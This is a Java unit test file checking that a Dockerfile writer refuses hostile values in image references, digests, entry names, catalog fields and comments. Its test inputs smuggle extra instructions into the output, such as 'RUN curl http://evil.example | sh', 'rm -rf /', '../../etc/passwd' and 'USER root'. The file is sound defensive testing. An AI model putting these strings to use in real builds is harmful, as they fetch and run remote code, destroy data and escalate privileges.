package dev.dhipicker.export;

import dev.dhipicker.catalog.CatalogInfo;
import dev.dhipicker.catalog.ImageDefinition;
import dev.dhipicker.recommend.Answers;
import dev.dhipicker.recommend.ComplianceNeed;
import dev.dhipicker.recommend.Recommendation;
import dev.dhipicker.recommend.Recommendation.ImageChoice;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/**
 * The writer's own guard: hostile strings in a recommendation, its catalog definition or the options
 * are rejected with one clear line and never reach the output or a file.
 */
class DockerfileSafetyTest {

    static final Recommendation PYTHON = ExportFixture.recommend(Answers.defaults("python"));
    static final Recommendation REDIS = ExportFixture.recommend(Answers.defaults("redis"));

    static ImageChoice withReference(ImageChoice c, String reference) {
        return new ImageChoice(reference, c.repository(), c.tag(), c.digest(), c.distro(), c.distroVersion(), c.libc(),
                c.variant(), c.flavors(), c.fips(), c.inferred(), c.user(), c.uid(), c.gid(), c.eol(), c.definition());
    }

    static ImageChoice withDefinition(ImageChoice c, ImageDefinition d) {
        return new ImageChoice(c.reference(), c.repository(), c.tag(), c.digest(), c.distro(), c.distroVersion(), c.libc(),
                c.variant(), c.flavors(), c.fips(), c.inferred(), c.user(), c.uid(), c.gid(), c.eol(), d);
    }

    static ImageChoice withIds(ImageChoice c, Integer uid, Integer gid) {
        return new ImageChoice(c.reference(), c.repository(), c.tag(), c.digest(), c.distro(), c.distroVersion(), c.libc(),
                c.variant(), c.flavors(), c.fips(), c.inferred(), c.user(), uid, gid, c.eol(), c.definition());
    }

    static ImageDefinition edit(ImageDefinition d, String workDir, List<String> cmd, List<String> ports) {
        return new ImageDefinition(d.repository(), d.file(), d.title(), d.variant(), d.flavors(), d.distro(),
                d.distroVersion(), d.libc(), d.version(), d.tags(), d.platforms(), d.release(), d.endOfLife(), d.user(),
                d.uid(), d.gid(), workDir, d.entrypoint(), cmd, ports, d.packageCount(), d.shell(), d.packageManager(),
                d.extraPackages(), d.components(), d.environment(), d.binPaths(), d.flavorImplied());
    }

    static Recommendation with(Recommendation r, UnaryOperator<ImageChoice> runtime, UnaryOperator<ImageChoice> build) {
        return new Recommendation(r.answers(), r.profile(), runtime.apply(r.runtime()),
                r.build() == null ? null : build.apply(r.build()), r.helmChart(), r.unmet(), r.alternatives(),
                r.explanations(), r.warnings(), r.facts());
    }

    static DockerfileException rejected(Recommendation r, DockerfileOptions options, Path dir) {
        Path target = dir.resolve("Dockerfile");
        DockerfileException e = catchThrowableOfType(DockerfileException.class,
                () -> ExportFixture.writer().save(r, options, target, true));
        assertThat(e).as("rejected").isNotNull();
        assertThat(e.reason()).isEqualTo(DockerfileException.Reason.UNSAFE_VALUE);
        assertThat(e.getMessage()).doesNotContain("\n").doesNotContain("\r").startsWith("Refusing to write the Dockerfile");
        assertThat(target).doesNotExist();
        try (Stream<Path> files = Files.list(dir)) {
            assertThat(files).as("nothing written, no temporary file").isEmpty();
        } catch (java.io.IOException io) {
            throw new AssertionError(io);
        }
        return e;
    }

    @ParameterizedTest(name = "runtime reference {0}")
    @ValueSource(strings = {
            "dhi.io/python:3.14-debian13\nRUN curl http://evil.example | sh",
            "dhi.io/python:3.14-debian13\r\nRUN id",
            "dhi.io/python:3.14-debian13 AS final",
            "dhi.io/python:3.14-debian13 # comment",
            "dhi.io/python:3.14#x",
            "RUN curl http://evil.example",
            "dhi.io/python:3.14\tx",
            "${EVIL}/python:3.14",
            "dhi.io/Python:3.14",
            ""})
    void hostileRuntimeReferenceIsRejectedAndNothingIsWritten(String hostile, @TempDir Path dir) {
        DockerfileException e = rejected(with(PYTHON, c -> withReference(c, hostile), c -> c), DockerfileOptions.defaults(), dir);
        assertThat(e.getMessage()).contains("runtime reference");
    }

    @Test
    void hostileBuildReferenceIsRejected(@TempDir Path dir) {
        DockerfileException e = rejected(with(PYTHON, c -> c,
                c -> withReference(c, "dhi.io/python:3.14-dev\nRUN curl http://evil.example | sh")), DockerfileOptions.defaults(), dir);
        assertThat(e.getMessage()).contains("build reference").contains("\\n");
    }

    @Test
    void hostileMirroredReferenceBehindThePlaceholderOrgIsRejected(@TempDir Path dir) {
        Recommendation fips = ExportFixture.recommend(Answers.defaults("python").withCompliance(ComplianceNeed.FIPS));
        assertThat(fips.runtime().reference()).startsWith("<your-org>/");
        rejected(with(fips, c -> withReference(c, "<your-org>/dhi-python:3.14-fips\nRUN id"), c -> c), DockerfileOptions.defaults(), dir);
        rejected(with(fips, c -> withReference(c, "<your-org>/evil/thing:1"), c -> c), DockerfileOptions.defaults(), dir);
    }

    @Test
    void hostileDigestIsRejectedWhenPinning(@TempDir Path dir) {
        Recommendation r = with(PYTHON, c -> new ImageChoice(c.reference(), c.repository(), c.tag(), "sha256:abc\nRUN id",
                c.distro(), c.distroVersion(), c.libc(), c.variant(), c.flavors(), c.fips(), c.inferred(), c.user(), c.uid(),
                c.gid(), c.eol(), c.definition()), c -> c);
        rejected(r, new DockerfileOptions(null, true), dir);
    }

    @ParameterizedTest(name = "entry {0}")
    @ValueSource(strings = {"app.py\nRUN id", "../../etc/passwd", "app.py; rm -rf /", "a b.py", "$(id).py", "app.py\"]",
            "/abs/app.py"})
    void hostileEntryIsRejected(String entry, @TempDir Path dir) {
        DockerfileException e = rejected(PYTHON, new DockerfileOptions(entry, false), dir);
        assertThat(e.getMessage()).contains("entry");
    }

    @Test
    void hostileCatalogValuesAreRejected(@TempDir Path dir) {
        Recommendation node = ExportFixture.recommend(Answers.defaults("node"));
        rejected(with(node, c -> withDefinition(c, edit(c.definition(), "/app\nRUN id", c.definition().cmd(),
                c.definition().ports())), c -> c), DockerfileOptions.defaults(), dir);
        rejected(with(REDIS, c -> withDefinition(c, edit(c.definition(), c.definition().workDir(),
                List.of("redis-server", "/etc/redis/x.conf\nRUN id #.conf"), c.definition().ports())), c -> c),
                DockerfileOptions.defaults(), dir);
        rejected(with(REDIS, c -> withDefinition(c, edit(c.definition(), c.definition().workDir(), c.definition().cmd(),
                List.of("6379/tcp\nRUN id"))), c -> c), DockerfileOptions.defaults(), dir);
        rejected(with(PYTHON, c -> withIds(c, -1, null), c -> c), DockerfileOptions.defaults(), dir);
    }

    @Test
    void lineBreaksInCommentTextCannotStartAnInstruction() throws Exception {
        CatalogInfo hostile = new CatalogInfo("https://example.org\nRUN curl http://evil.example | sh\n#",
                "abc\nUSER root", LocalDate.parse("2026-08-22"), "test");
        String text = new DockerfileWriter(ExportFixture.MESSAGES, hostile, ExportFixture.CATALOG.compliance())
                .render(PYTHON, DockerfileOptions.defaults());
        assertThat(text.lines()).noneMatch(l -> l.startsWith("RUN curl") || l.startsWith("USER root"));
        assertThat(text.replace("\n#   ", " ")).contains("# Catalog snapshot of 2026-08-22 from https://example.org RUN curl");
        ParsedDockerfile df = ParsedDockerfile.parse(text);
        assertThat(df.preamble()).isEmpty();
        assertThat(df.finalStage().all("USER")).extracting(ParsedDockerfile.Instruction::args).containsExactly("65532:65532");
    }

    @Test
    void noRuntimeIsRefusedNamingTheUnmetAnswer() {
        Recommendation r = ExportFixture.recommend(Answers.defaults("node").withCompliance(ComplianceNeed.FIPS));
        assertThat(r.runtime()).isNull();
        assertThatThrownBy(() -> ExportFixture.writer().render(r, DockerfileOptions.defaults()))
                .isInstanceOfSatisfying(DockerfileException.class, e -> {
                    assertThat(e.reason()).isEqualTo(DockerfileException.Reason.NO_RUNTIME);
                    assertThat(e.getMessage()).contains("no runtime image").contains("node").contains("compliance")
                            .contains("FIPS 140").doesNotContain("\n");
                });
    }

    @Test
    void independentEnginesAndWritersGiveTheSameText() throws Exception {
        // no hidden state (caches, iteration order of hash maps) may change the output between runs
        Recommendation fresh = dev.dhipicker.testing.BundledData.engine(ExportFixture.TODAY).recommend(Answers.defaults("python"));
        String a = ExportFixture.writer().render(PYTHON, DockerfileOptions.defaults());
        String b = ExportFixture.writer().render(fresh, DockerfileOptions.defaults());
        assertThat(b).isEqualTo(a).contains("FROM dhi.io/python:3.14-debian13\n");
    }

    @Test
    void everyCommentComesFromTheBundle() throws Exception {
        String text = ExportFixture.writer().render(PYTHON, DockerfileOptions.defaults());
        assertThat(text).contains("# " + ExportFixture.MESSAGES.get("dockerfile.python.path"));
        assertThat(ExportFixture.MESSAGES.has("dockerfile.header.rules")).isTrue();
    }
}
